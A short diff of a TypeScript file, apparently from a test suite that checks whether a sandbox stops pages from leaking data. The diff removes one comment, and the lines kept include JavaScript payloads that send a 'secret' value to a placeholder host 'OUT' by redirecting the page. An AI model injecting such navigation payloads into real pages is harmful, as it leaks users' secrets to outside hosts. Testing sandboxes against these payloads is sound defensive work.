@@ -1,6 +1,5 @@
 import type { Attempt } from './attempt.ts'
 
-/** Ways to take the page, another one or the whole tab to an address. */
 export const LEAVES: readonly Attempt[] = [
   { name: 'location', alone: 'always', js: `location = 'http://OUT/?' + secret` },
   { name: 'location-replace', alone: 'always', js: `location.replace('http://OUT/?' + secret)` },
